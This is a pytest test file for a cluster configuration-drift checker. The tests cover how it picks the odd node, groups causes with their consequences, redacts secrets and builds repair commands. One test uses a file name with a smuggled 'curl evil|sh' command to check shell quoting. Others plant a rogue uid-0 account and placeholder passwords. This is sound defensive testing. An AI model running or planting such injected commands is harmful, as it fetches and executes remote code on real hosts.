"""Objects that nobody foresaw: which node differs, which value is right, and by what."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from lockstep import repairs
from lockstep.checks.context import Context
from lockstep.checks.fingerprint.findings import READING
from lockstep.checks.rules.fingerprint import DOMAINS, FAMILY
from lockstep.node.fingerprint.domains import DOMAINS as READ
from lockstep.node.fingerprint.entry import Fields, Secret
from lockstep.node.fingerprint.slow import SLOW
from lockstep.node.readers.reading import Unread
from lockstep.probe.record import Record, Taken
from lockstep.report import Finding, Report, Status
from tests.checks import recorded
from tests.checks.recorded_fingerprint import Objects, objects, with_objects

NODE = "worker3"


Changes = dict[str, dict[str, Fields | None]]
"""Domain -> object -> its fields, or None to take it away."""


def of(node: str = NODE, changes: Changes | None = None, **more: Any) -> dict[str, Objects]:
    """Return a node's objects after some changes."""
    address = recorded.consistent().plan.nodes[node].address
    found = objects(node, address)
    for domain, inside in {**(changes or {}), **more}.items():
        kept = {**found[domain], **inside}
        found[domain] = {name: fields for name, fields in kept.items() if fields is not None}
    return {node: found}


def report(changed: dict[str, Any], start: Context | None = None) -> Report:
    return recorded.report(with_objects(start or recorded.consistent(), changed))


def only(changed: dict[str, Any], start: Context | None = None) -> Finding:
    return recorded.only(report(changed, start).findings)


def test_equal_nodes_have_no_finding() -> None:
    assert report({}).findings == []


def test_every_domain_has_a_rule() -> None:
    assert {domain.name for domain in (*READ, *SLOW)} == DOMAINS.keys()


@pytest.mark.parametrize("domain", [domain for domain in DOMAINS if domain != "running"])
@pytest.mark.parametrize(
    ("name", "fields", "found", "expected"),
    [
        ("plain", {"mode": "0600", "content": "a\nb\n"}, "mode 0600", "mode 0644"),
        ("plain", {"mode": "0644", "content": "a\nc\n"}, "content: c", "content: b"),
        ("plain", None, "absent", "mode 0644"),
        ("new", {"mode": "0644"}, "mode 0644", "absent"),
        ("own", {"content": f"name {NODE}\naddress fd00:1::999\n"}, "fd00:1::999", "<address of"),
        ("key", {"mode": "0600", "content": Secret("another")}, "content ", "content "),
    ],
)
def test_an_object_is_named_with_both_values(
    domain: str, name: str, fields: Fields | None, found: str, expected: str
) -> None:
    finding = only(of(changes={domain: {name: fields}}))
    assert (finding.rule, finding.node, finding.device) == (FAMILY + domain, NODE, name)
    assert found in finding.found
    assert expected in finding.expected
    assert finding.reference == "peers (7 of 8)"
    assert "another" not in str(finding), "a secret value is never shown"


@pytest.mark.parametrize("copied", ["worker1", "worker8"])
def test_the_file_of_another_node_shows(copied: str) -> None:
    """It is equal to that of one node, which is not wrong there."""
    address = recorded.consistent().plan.nodes[copied].address
    other = {"content": f"name {copied}\naddress {address}\n"}
    finding = only(of(file={"own": other}))
    assert (finding.rule, finding.node, finding.device) == ("fingerprint.file", NODE, "own")
    assert finding.reference == "peers (7 of 8)"


def test_what_runs_otherwise_than_configured_needs_no_peers() -> None:
    one = {"x.service nice": {"running": "5", "configured": "0"}}
    finding = only(of("head1", running=dict(one)))
    assert (finding.rule, finding.node, finding.device) == (
        "fingerprint.running",
        "head1",
        "x.service nice",
    )
    assert (finding.found, finding.expected, finding.reference) == ("5", "0", "configured")
    everywhere = {
        name: of(name, running=dict(one))[name] for name in recorded.consistent().plan.nodes
    }
    assert len(report(everywhere).findings) == 9


def two() -> Context:
    """Return the cluster with two workers that can be read."""
    others = [name for name in recorded.consistent().plan.nodes if name[-1] in "45678"]
    start = recorded.consistent()
    gone = {name: record for name, record in start.reading.items() if name not in others}
    return replace(start, reading={n: r for n, r in gone.items() if n != "worker1"})


def fingerprints_of(context: Context, changed: dict[str, Any]) -> list[Finding]:
    found = report(changed, context).findings
    return [one for one in found if one.rule.startswith(FAMILY)]


def test_of_two_workers_the_package_decides() -> None:
    for shipped, right in (("yes", "worker3"), ("changed", "worker2")):
        other = {"yes": "changed", "changed": "yes"}[shipped]
        file = {"package": "pkg", "content": "1"}
        changed = {
            **of("worker2", file={"/etc/a": {**file, "shipped": other}}),
            **of("worker3", file={"/etc/a": {**file, "shipped": shipped}}),
        }
        (finding,) = fingerprints_of(two(), changed)
        assert finding.reference == "package"
        assert finding.node == {"worker3": "worker2", "worker2": "worker3"}[right]
        assert "apt-get download pkg=" in finding.repair


def test_of_two_workers_the_one_with_more_is_odd_if_nothing_else_tells() -> None:
    lost = of("worker2", hardware={"plain": None}, route={"plain": None})
    found = fingerprints_of(two(), lost)
    assert {one.status for one in found} == {Status.UNDECIDED.value}, "rather lost than added"
    (finding,) = fingerprints_of(two(), of("worker2", user={"eve": {"uid": "0"}}))
    assert (finding.node, finding.device, finding.expected) == ("worker2", "eve", "absent")
    assert finding.reference == "no package owns it"
    assert finding.repair == "on worker2: userdel -f eve"


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("/dev/nvidia7", {"type": "character device", "mode": "666", "device": "195:7"}),
        ("/dev/infiniband/uverbs3", {"type": "character device", "mode": "666"}),
        ("/dev/infiniband", {"type": "folder", "mode": "755"}),
    ],
)
def test_of_two_workers_the_one_without_a_device_is_not_right(name: str, fields: Fields) -> None:
    """The device is rather lost on the other worker, as a GPU that left the bus."""
    (finding,) = fingerprints_of(two(), of("worker2", file={name: fields}))
    assert finding.status == Status.UNDECIDED.value
    assert (finding.node, finding.device) == ("worker[2-3]", name)
    assert "absent on worker3" in finding.found


def test_nobody_decides_between_two_values() -> None:
    changed = of(file={"plain": {"mode": "0600", "content": "a\nb\n"}})
    (finding,) = fingerprints_of(two(), changed)
    assert finding.status == Status.UNDECIDED.value
    assert "mode 0600 on worker3" in finding.found
    assert "mode 0644 on worker2" in finding.found


def test_a_domain_that_cannot_be_read_is_unknown() -> None:
    changed = {NODE: {**of()[NODE], "firewall": Unread("nft: exit 1: Operation not permitted")}}
    finding = only(changed)
    assert (finding.rule, finding.node) == ("fingerprint.firewall", NODE)
    assert finding.status == Status.UNKNOWN.value
    assert "not permitted" in finding.found


def test_a_node_that_does_not_show_a_difference_has_one() -> None:
    shown = with_objects(recorded.consistent(), of(file={"plain": None}))
    record = shown.reading[NODE]
    assert isinstance(record, Record)
    hidden = record.model_copy(
        update={"readings": {n: v for n, v in record.readings.items() if "branches" not in n}}
    )
    found = recorded.report(replace(shown, reading={**shown.reading, NODE: hidden})).findings
    finding = recorded.only(found)
    assert (finding.node, finding.status, finding.device) == (NODE, Status.DIFFERS.value, "")
    assert finding.found == "1 difference in objects that were not read"
    assert finding.parts == ()


def test_secrets_are_not_compared_under_another_key() -> None:
    context = with_objects(recorded.consistent(), {}, {NODE: b"another" * 4})
    assert recorded.report(context).findings == []


def test_a_rule_takes_the_place_of_the_fingerprint() -> None:
    path = "/etc/apt/apt.conf.d/90lockstep"
    start = recorded.mutated(recorded.consistent(), NODE, "files", (path, "sha256"), "0" * 64)
    (finding,) = report(of(file={path: {"content": "x"}}), start).findings
    assert (finding.rule, finding.device) == ("file.content", path)


def test_consequences_are_part_of_their_cause() -> None:
    unit = {
        "file": {"/etc/systemd/system/x.service.d/50-a.conf": {"content": "[Service]\nNice=5\n"}},
        "unit": {"x.service": {"active": "active"}},
        "process": {"x.service": {"nice": "5"}},
        "listener": {"tcp *:99": {"unit": "x.service"}},
        "running": {"x.service: nice": {"running": "5", "configured": "0"}},
    }
    finding = only(of(changes={domain: dict(objects) for domain, objects in unit.items()}))
    assert finding.device == "/etc/systemd/system/x.service.d/50-a.conf"
    assert "also differs: running x.service: nice, unit x.service, process x.service" in (
        finding.detail
    )


def test_a_drop_in_for_all_services_is_one_finding() -> None:
    """The daemons started before it, and no unit has read it."""
    path = "/etc/systemd/system/service.d/10-io.conf"
    late = {"running": "before the last change of its files", "configured": path}
    unread = {"running": "as of the last daemon-reload", "configured": "changed since"}
    running = {f"{name}.service: unit files": unread for name in "abc"}
    finding = only(of(file={path: {"content": "x"}}, running={"a.service: start": late, **running}))
    assert finding.device == path
    assert "running a.service: start" in finding.detail
    assert "running c.service: unit files" in finding.detail


def test_unread_files_of_two_units_stay_two_findings() -> None:
    unread = {"running": "as of the last daemon-reload", "configured": "changed since"}
    paths = [f"/etc/systemd/system/{name}.service" for name in "ab"]
    running = {f"{name}.service: unit files": unread for name in "ab"}
    found = report(of(file={path: {"content": "x"} for path in paths}, running=running)).findings
    assert [one.device for one in found] == paths
    assert [one.detail for one in found] == [
        f"also differs: running {name}.service: unit files" for name in "ab"
    ]


def test_the_sysctls_of_a_new_interface_are_part_of_it() -> None:
    names = ("net.ipv4.conf.x0", "net.ipv6.conf.x0", "net.ipv4.neigh.x0")
    sysctls = {name: {"forwarding": "0"} for name in names}
    finding = only(of(interface={"x0": {"kind": "vxlan"}}, sysctl=sysctls))
    assert finding.device == "x0"
    assert all(f"sysctl {name}" in finding.detail for name in names)


def test_two_causes_are_two_findings() -> None:
    found = report(of(file={"/etc/a": {"mode": "1"}}, unit={"x.service": {"active": "active"}}))
    assert [(one.rule, one.device) for one in found.findings] == [
        ("fingerprint.file", "/etc/a"),
        ("fingerprint.unit", "x.service"),
    ]


def test_a_folder_with_its_files_is_removed_by_one_command() -> None:
    folder: Fields = {"type": "folder", "mode": "755"}
    file: Fields = {"type": "file", "mode": "644", "content": "a"}
    changes: Changes = {"file": {"/opt/x": folder, "/opt/x/y": folder, "/opt/x/y/a": file}}
    finding = only(of(changes=changes))
    assert finding.device == "/opt/x"
    assert finding.repair == f"on {NODE}: rm /opt/x/y/a && rmdir /opt/x/y /opt/x"


def test_an_account_that_a_removed_package_left() -> None:
    account: Fields = {"uid": "allocated (100-999)", "removed package": "tcpdump"}
    group: Fields = {"gid": "allocated (100-999)", "removed package": "tcpdump"}
    left: Changes = {"user": {"tcpdump": account}, "group": {"tcpdump": group}}
    finding = only(of(changes=left))
    assert (finding.rule, finding.device) == ("fingerprint.user", "tcpdump")
    assert finding.detail.startswith("left by package tcpdump, which was removed; also differs")
    assert finding.repair == f"on {NODE}: apt-get purge tcpdump"
    package: Fields = {"status": "config-files", "version": "1"}
    finding = only(of(changes={**left, "package": {"tcpdump:amd64": package}}))
    assert (finding.rule, finding.device) == ("fingerprint.package", "tcpdump:amd64")
    assert "user tcpdump" in finding.detail
    assert "group tcpdump" in finding.detail
    assert finding.repair == f"on {NODE}: apt-get purge tcpdump:amd64"


def test_the_group_of_a_user_too_many_goes_with_the_user() -> None:
    account: Fields = {"uid": "1001", "group": "eve"}
    both: Changes = {"user": {"eve": account}, "group": {"eve": {"gid": "1001", "members": ""}}}
    finding = only(of(changes=both))
    assert (finding.rule, finding.repair) == ("fingerprint.user", f"on {NODE}: userdel eve")
    assert finding.detail == "also differs: group eve"


def test_files_of_a_number_without_a_name_follow_the_group() -> None:
    file: Fields = {"owner": "ops:ops", "mode": "700"}
    group: Fields = {"gid": "1000", "members": ""}
    workers = [name for name in recorded.consistent().plan.nodes if name.startswith("worker")]
    every: dict[str, Objects] = {}
    for name in workers:
        every |= of(name, file={"/home/ops": dict(file)}, group={"ops": dict(group)})
    owner = "ops:1000"
    odd = of(file={"/home/ops": {**file, "owner": owner}}, group={"ops": {**group, "gid": "4711"}})
    finding = only({**every, **odd})
    assert (finding.rule, finding.device) == ("fingerprint.group", "ops")
    assert finding.repair == f"on {NODE}: groupmod -g 1000 ops"
    assert finding.detail == "also differs: file /home/ops"
    alone = of(file={"/home/ops": {**file, "owner": "root:root"}}, group={"ops": dict(group)})
    assert only({**every, **alone}).repair.startswith(f"on {NODE}: chown -h ops:ops /home/ops")


def test_an_mtu_of_ipv6_follows_that_of_its_interface() -> None:
    def with_mtu(node: str, value: str, temporary: str = "0") -> dict[str, Objects]:
        ipv6 = {"net.ipv6.conf.eth0": {"mtu": value, "use_tempaddr": temporary}}
        return of(node, interface={"eth0": {"mtu": value}}, sysctl=dict(ipv6))

    workers = [name for name in recorded.consistent().plan.nodes if name.startswith("worker")]
    every = {name: fields for node in workers for name, fields in with_mtu(node, "1500").items()}
    finding = only({**every, **with_mtu(NODE, "1400")})
    assert (finding.rule, finding.device) == ("fingerprint.interface", "eth0")
    assert len(report({**every, **with_mtu(NODE, "1400", "2")}).findings) == 2


def test_a_rule_about_a_unit_explains_its_process_but_not_its_files() -> None:
    start = recorded.mutated(
        recorded.consistent(), NODE, "units", ("slurmd.service", "active"), "failed"
    )
    path = "/etc/systemd/system/slurmd.service.d/override.conf"
    found = report(
        of(process={"slurmd.service": {"nice": "5"}}, file={path: {"content": "x"}}), start
    ).findings
    assert [(one.rule, one.device) for one in found] == [
        ("unit.active", "slurmd.service"),
        ("fingerprint.file", path),
    ]


def test_a_rule_about_a_file_explains_the_daemon_that_has_not_read_it() -> None:
    path = "/etc/chrony/chrony.conf"
    start = recorded.mutated(recorded.consistent(), NODE, "files", (path, "sha256"), "0" * 64)
    fields = {"running": "before the last change of its files", "configured": f"/etc/x {path}"}
    running = {"chrony.service: start": fields}
    assert [(one.rule, one.device) for one in report(of(running=running), start).findings] == [
        ("file.content", path)
    ]
    other = {"chrony.service: start": {**fields, "configured": "/etc/x"}}
    assert len(report(of(running=other), start).findings) == 2


def test_a_rule_that_names_the_other_side_is_right() -> None:
    """Of two workers, one runs a service that the description wants; the other one stopped it."""
    start = recorded.mutated(two(), "worker2", "units", ("slurmd.service", "active"), "inactive")
    running = of("worker3", process={"slurmd.service": {"nice": "0"}})
    found = report(running, start).findings
    assert not [one for one in found if one.rule.startswith(FAMILY)]
    assert fingerprints_of(two(), running), "without the rule's finding, it is one"


def test_a_reservation_for_maintenance_explains_the_state_of_its_nodes() -> None:
    def with_state(state: list[str], flags: str) -> list[tuple[str, str]]:
        start = recorded.mutated(
            recorded.consistent(), "head1", "slurm.nodes", ("worker3", "state"), list(state)
        )
        fields = {"running": f"Nodes=worker3 Flags={flags} Users=root", "configured": "none"}
        found = report(of("head1", running={"reservation maint": dict(fields)}), start).findings
        return [(one.rule, one.device) for one in found]

    state, reservation = ("slurm.state", ""), ("fingerprint.running", "reservation maint")
    assert with_state(["IDLE", "MAINTENANCE"], "MAINT,SPEC_NODES") == [reservation]
    assert sorted(with_state(["IDLE", "DRAIN", "MAINTENANCE"], "MAINT")) == [reservation, state]
    assert sorted(with_state(["IDLE", "MAINTENANCE"], "SPEC_NODES")) == [reservation, state]
    without = recorded.mutated(
        recorded.consistent(), "head1", "slurm.nodes", ("worker3", "state"), ["IDLE", "MAINTENANCE"]
    )
    assert [one.rule for one in recorded.report(without).findings] == ["slurm.state"]


def test_a_rule_about_a_package_explains_the_package() -> None:
    drift = "0.5.15-4+drift"
    start = recorded.mutated(recorded.consistent(), NODE, "packages", ("munge",), drift)
    package = {"munge:amd64": {"version": drift}}
    found = report(of(package=dict(package)), start).findings
    assert {one.rule for one in found} == {"package.version"}
    assert {one.rule for one in report(of(package=dict(package)))} == {"fingerprint.package"}


def test_the_links_of_an_enabled_unit_are_part_of_the_unit() -> None:
    wants = "/etc/systemd/system/multi-user.target.wants/x.service"
    link: Fields = {"type": "link"}
    changes: Changes = {
        "file": {wants: link, "/etc/rc2.d/S01x": link},
        "unit": {"x.service": {"enabled": "by multi-user.target"}},
    }
    finding = only(of(changes=changes))
    assert finding.device == "x.service"
    assert f"file {wants}" in finding.detail
    assert "file /etc/rc2.d/S01x" in finding.detail


def test_a_rule_about_the_host_name_explains_its_other_places() -> None:
    start = recorded.mutated(recorded.consistent(), NODE, "os.hostname", (), "other")
    name = {"host name: name": {"running": "other", "configured": NODE}}
    changed = of(running=dict(name), sysctl={"kernel.hostname": {"value": "other"}})
    assert {one.rule for one in report(changed, start)} == {"os.hostname"}
    assert len(report(changed).findings) == 2


def hidden(context: Context, node: str, domain: str) -> Context:
    """Return the cluster in which a node could not read a domain when it was asked again."""
    record = context.reading[node]
    assert isinstance(record, Record)
    branches = record.get("fingerprint.branches")
    assert isinstance(branches, dict)
    assert domain in branches
    kept = Taken(value={name: shown for name, shown in branches.items() if name != domain})
    update = {"readings": {**record.readings, "fingerprint.branches": kept}}
    return replace(context, reading={**context.reading, node: record.model_copy(update=update)})


def test_a_domain_that_is_read_no_more_is_not_an_absent_object() -> None:
    """The majority's node fails to show its users; nobody is told to remove them."""
    changed = of(user={"plain": {"uid": "1"}}, group={"plain": {"gid": "1"}})
    context = with_objects(recorded.consistent(), changed)
    found = recorded.report(hidden(context, "worker1", "user")).findings
    assert {(one.rule, one.status) for one in found} == {
        ("fingerprint.group", "differs"),
        ("fingerprint.user", "differs"),
    }
    assert {one.device for one in found if one.rule == "fingerprint.user"} == {""}


def test_every_node_with_a_running_difference_is_named() -> None:
    one = {"a.service: nice": {"running": "5", "configured": "0"}}
    two = {**one, "b.service: nice": {"running": "5", "configured": "0"}}
    changed = {**of("worker2", running=dict(one)), **of("worker3", running=dict(two))}
    found = {(finding.node, finding.device) for finding in report(changed).findings}
    assert found == {
        *(("worker2", "a.service: nice"), ("worker3", "a.service: nice")),
        ("worker3", "b.service: nice"),
    }


def test_a_file_that_names_each_node_and_is_missing_on_one() -> None:
    """On another one it exists without the name."""
    changed = {
        **of("worker5", file={"own": {"content": "name nobody\n"}}),
        **of("worker6", file={"own": None}),
    }
    found = {(finding.node, finding.device) for finding in report(changed).findings}
    assert found == {("worker5", "own"), ("worker6", "own")}


def test_the_worst_consequence_says_how_severe_a_cause_is() -> None:
    path = "/etc/systemd/system/x.service.d/a.conf"
    running = {"x.service: state": {"running": "failed", "configured": "active"}}
    finding = only(of(changes={"file": {path: {"mode": "644"}}, "running": dict(running)}))
    assert (finding.device, finding.severity) == (path, "error")


@pytest.mark.parametrize(
    "shown", ["password=hunter2", "url http://me:hunter2@host/", "Token hunter2"]
)
def test_lines_that_may_have_a_secret_are_not_shown(shown: str) -> None:
    finding = only(of(file={"plain": {"mode": "0644", "content": f"a\nb\n{shown}\n"}}))
    assert "hunter2" not in str(finding)
    assert "may have a secret" in finding.found
    assert "may have a secret" in finding.detail


def test_a_content_that_the_peers_protect_is_not_shown() -> None:
    """Somebody made a secret file readable on one node."""
    finding = only(of(file={"key": {"mode": "0644", "content": "hunter2\n"}}))
    assert "hunter2" not in str(finding)
    assert "mode 0644" in finding.found


def test_a_name_for_a_shell_is_quoted() -> None:
    finding = only(of(file={"/home/bob/.a;curl evil|sh": {"mode": "0644", "type": "file"}}))
    assert finding.repair == "on worker3: rm '/home/bob/.a;curl evil|sh'"


def test_without_a_command_the_repair_names_nodes_with_the_right_value() -> None:
    finding = only(of(file={"plain": {"mode": "0644", "content": "x\n"}}))
    assert finding.repair == "on worker3: make plain the same as on worker[1-2,4-8]"
    assert finding.roles == ()


@pytest.mark.parametrize(
    ("domain", "name", "field", "expected"),
    [
        ("unit", "systemd", "environment API_TOKEN", "make systemd the same as on worker[1-2,4-8]"),
        ("sysctl", "vm.key", "value", "make vm.key the same as on worker[1-2,4-8]"),
        ("process", "x.service", "environment API_TOKEN", "systemctl restart x.service"),
    ],
)
def test_no_command_sets_the_hash_of_a_secret(
    domain: str, name: str, field: str, expected: str
) -> None:
    def with_secret(node: str, value: str) -> dict[str, Objects]:
        return of(node, {domain: {name: {field: Secret(value)}}})

    nodes = recorded.consistent().plan.nodes
    everywhere = {node: with_secret(node, "usual")[node] for node in nodes}
    assert only({**everywhere, **with_secret(NODE, "odd")}).repair == f"on {NODE}: {expected}"


def test_a_secret_variable_too_many_is_unset() -> None:
    variables: Fields = {"environment API_TOKEN": Secret("odd"), "environment KEY": Secret("all")}
    usual: Fields = {"environment KEY": Secret("all")}
    nodes = recorded.consistent().plan.nodes
    everywhere = {node: of(node, unit={"systemd": usual})[node] for node in nodes}
    finding = only({**everywhere, **of(unit={"systemd": variables})})
    assert finding.repair == f"on {NODE}: systemctl unset-environment API_TOKEN"


def test_what_a_role_owns_is_deployed_again() -> None:
    path = "/etc/chrony/chrony.conf"
    usual = {"type": "file", "owner": "root:root", "mode": "644"}
    nodes = recorded.consistent().plan.nodes
    everywhere = {name: of(name, file={path: usual})[name] for name in nodes}
    changed = {**everywhere, **of(file={path: {**usual, "mode": "600"}})}
    found = report(changed)
    finding = only(changed)
    assert finding.roles == ("time_sync",)
    assert finding.repair == (
        "pyinfra -y inventories/recorded.py deploys/worker.py --limit worker3"
        " --data roles=time_sync"
    )
    (deploy,) = repairs.deploys(found, recorded.consistent().plan)
    assert (deploy.nodes, deploy.roles) == (("worker3",), ("time_sync",))
    locked = {**everywhere, **of(file={path: {**usual, "flags": "i"}})}
    assert only(locked).repair == f"on worker3: chattr -i {path}"
    assert repairs.deploys(report(locked), recorded.consistent().plan) == []


def test_what_runs_otherwise_has_its_own_repair() -> None:
    one: Fields = {"running": "DOWN", "configured": "UP", "repair": "scontrol reconfigure"}
    finding = only(of("head1", running={"partition batch: State": one}))
    assert finding.repair == "on head1: scontrol reconfigure"


def test_a_changed_file_is_the_cause_of_what_was_not_read_again() -> None:
    file = "/etc/slurm/slurm.conf"
    one: Fields = {"running": "older", "configured": "changed since", "file": file}
    changed: Fields = {"mode": "0600"}
    found = report(of(file={file: changed}, running={"slurmctld: slurm.conf": one})).findings
    assert [(one.rule, one.device) for one in found] == [("fingerprint.file", file)]
    assert "slurmctld: slurm.conf" in found[0].detail
    other: Fields = {**one, "file": "/etc/slurm/gres.conf"}
    assert len(report(of(file={file: changed}, running={"x": other})).findings) == 2


def test_the_log_level_of_slurmd_is_one_finding() -> None:
    level: Fields = {"running": "debug2", "configured": "info"}
    found = only(
        of(slurmd={"slurmd": {"Debug": "6"}}, running={"slurmd.service: SlurmdDebug": level})
    )
    assert found.device == "slurmd.service: SlurmdDebug"


def without_package(name: str, fields: Fields) -> Changes:
    return {"program": {name: fields}}


@pytest.mark.parametrize(
    ("fields", "reference", "expected", "repair"),
    [
        ({"type": "file", "package": "none"}, "no package owns it", "absent", "rm /usr/bin/tool"),
        (
            {"content": "MD5 1", "shipped": "MD5 2", "package": "tool"},
            "package",
            "as the package ships it",
            "apt-get download tool=",
        ),
        (
            {"type": "absent", "package": "tool"},
            "package",
            "as the package ships it",
            "apt-get download tool=",
        ),
    ],
)
def test_of_two_workers_a_program_as_shipped_is_right(
    fields: Fields, reference: str, expected: str, repair: str
) -> None:
    changed = of("worker2", without_package("/usr/bin/tool", fields))
    (finding,) = fingerprints_of(two(), changed)
    assert (finding.node, finding.reference, finding.expected) == ("worker2", reference, expected)
    assert repair in finding.repair


def test_of_two_workers_a_program_with_other_rights_may_be_right() -> None:
    """Programs as they are shipped are no objects, but those with set-user-ID always are."""
    fields = {"type": "file", "mode": "4755", "package": "sudo"}
    changed = of("worker2", without_package("/usr/bin/sudo", fields))
    (finding,) = fingerprints_of(two(), changed)
    assert finding.status == Status.UNDECIDED.value
    assert "usual owner and rights on worker3" in finding.found
    assert "mode 4755, package sudo, type file on worker2" in finding.found


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"mode": "644", "package": "tool"}, "usual owner and rights"),
        ({"mode": "644", "shipped": "mode 755", "package": "tool"}, "as the package ships it"),
        ({"mode": "644", "package": "none"}, "absent"),
        ({"kind": "MD5 1, 755"}, "absent"),  # the scripts of a package name no package
    ],
)
def test_a_program_that_is_no_object_elsewhere_need_not_be_absent_there(
    fields: Fields, expected: str
) -> None:
    finding = only(of(changes=without_package("/usr/bin/tool", fields)))
    assert (finding.expected, finding.reference) == (expected, "peers (7 of 8)")


def test_a_program_is_absent_where_its_package_is_not_installed() -> None:
    fields = {"mode": "644", "shipped": "mode 755", "package": "tool"}
    installed = of(
        program={"/usr/bin/tool": fields}, package={"tool": {"version": "1", "state": "installed"}}
    )
    found = {finding.device: finding.expected for finding in report(installed).findings}
    assert found["/usr/bin/tool"] == "absent"


def test_a_difference_of_a_slow_domain_has_its_age() -> None:
    changed = of(program={"plain": {"mode": "0600", "content": "a\nc\n"}})
    start, hours = recorded.consistent(), 3 * 3600 + 60
    for ages_s, said in (({}, ""), ({NODE: hours}, "read 3 h 1 min before this check on worker3")):
        finding = recorded.only(
            recorded.report(with_objects(start, changed, None, ages_s)).findings
        )
        assert finding.detail.endswith(said)
        assert ("before this check" in finding.detail) == bool(said)


def test_a_node_without_slow_domains_is_not_compared_in_them() -> None:
    context = with_objects(recorded.consistent(), of(program={"plain": None}))
    record = context.reading[NODE]
    assert isinstance(record, Record)
    taken = record.get(READING)
    assert isinstance(taken, dict)
    readings = {**record.readings, READING: Taken(value={**taken, "slow": {}})}
    reading = {**context.reading, NODE: record.model_copy(update={"readings": readings})}
    found = recorded.report(replace(context, reading=reading))
    assert found.findings == []
    assert [note for note in found.notes if "--slow" in note and NODE in note]
